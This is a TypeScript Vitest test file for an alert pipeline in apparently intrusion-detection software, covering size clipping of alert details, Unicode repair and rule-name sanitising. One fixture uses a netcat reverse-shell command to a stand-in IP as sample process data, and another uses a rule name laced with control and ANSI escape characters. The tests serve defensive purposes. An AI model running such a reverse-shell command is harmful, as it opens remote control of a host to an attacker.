import { describe, expect, it } from 'vitest';
import { alertFromDraft } from '../src/alert-wire.js';
import { clipDetail, clipUtf8 } from '../src/detail-clip.js';
import { storableRuleName } from '../src/rule-name.js';

const bytes = (s: string) => Buffer.byteLength(s);

describe('clipDetail', () => {
  it('leaves a detail that fits untouched', () => {
    const detail = { path: '/etc/passwd', size: 3 };
    expect(clipDetail(detail, 1024)).toEqual({
      json: JSON.stringify(detail),
      truncated: {},
      repaired: 0,
      replaced: false,
    });
  });

  it('cuts the largest string first and records its original size; small fields stay whole', () => {
    const cmdline = `nc -e /bin/sh 203.0.113.7 4444 ${'A'.repeat(70_000)}`;
    const out = clipDetail({ pid: 42, user: 'root', cmdline }, 4096);
    const detail = JSON.parse(out.json);
    expect(bytes(out.json)).toBeLessThanOrEqual(4096);
    expect(detail).toMatchObject({ pid: 42, user: 'root', truncated: { cmdline: bytes(cmdline) } });
    expect(cmdline.startsWith(detail.cmdline)).toBe(true);
    expect(bytes(out.json)).toBeGreaterThan(3000); // it keeps as much as fits
  });

  it("keeps a sensor's own truncated marks (the original size) and adds its cuts beside them", () => {
    const out = clipDetail(
      {
        cmdline: 'x'.repeat(5000),
        parent_cmdline: 'y'.repeat(5000),
        truncated: { cmdline: 200_000 },
      },
      4096,
    );
    const detail = JSON.parse(out.json);
    expect(detail.truncated.cmdline).toBe(200_000);
    expect(Object.keys(detail.truncated).sort()).toEqual(['cmdline', 'parent_cmdline']);
  });

  it('repairs NUL and unpaired surrogates, which PostgreSQL cannot store', () => {
    const out = clipDetail({ path: 'a\u0000b\uD800c', nested: ['\uDC00'] }, 1024);
    expect(JSON.parse(out.json)).toEqual({ path: 'a\uFFFDb\uFFFDc', nested: ['\uFFFD'] });
    expect(out.repaired).toBe(2);
  });

  it('keeps the start of a detail as text when no string cut can make it fit', () => {
    const many = Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`k${i}`, i]));
    const out = clipDetail(many, 2048);
    expect(bytes(out.json)).toBeLessThanOrEqual(2048);
    const detail = JSON.parse(out.json);
    expect(detail.truncated).toEqual({ detail: bytes(JSON.stringify(many)) });
    expect(JSON.stringify(many).startsWith(detail.detail_head)).toBe(true);
  });

  it('never splits a character', () => {
    expect(clipUtf8('aé😀', 2)).toBe('a');
    expect(clipUtf8('aé😀', 6)).toBe('aé');
    expect(clipUtf8('\uFFFD\uFFFD', 4)).toBe('\uFFFD');
  });
});

describe('alertFromDraft', () => {
  it('clips to the budget instead of refusing a large detail', () => {
    const alert = alertFromDraft(
      {
        tripwireType: 'PROCESS',
        severity: 'CRITICAL',
        ruleName: 'r',
        detail: { blob: 'x'.repeat(2_000_000) },
      },
      60 * 1024,
    );
    expect(bytes(alert.detailJson)).toBeLessThanOrEqual(60 * 1024);
    expect(JSON.parse(alert.detailJson).truncated).toEqual({ blob: 2_000_000 });
  });

  it('makes a rule name storable and keeps the original in the detail', () => {
    const name = `evil\r\n\u001b[31m${'n'.repeat(300)}`;
    const alert = alertFromDraft({
      tripwireType: 'FILE',
      severity: 'WARN',
      ruleName: name,
      detail: {},
    });
    expect(alert.ruleName).toBe(storableRuleName(name));
    expect(alert.ruleName).toHaveLength(256);
    expect(alert.ruleName).not.toMatch(/\p{Cc}/u);
    expect(JSON.parse(alert.detailJson).original_rule_name).toBe(name);
  });
});
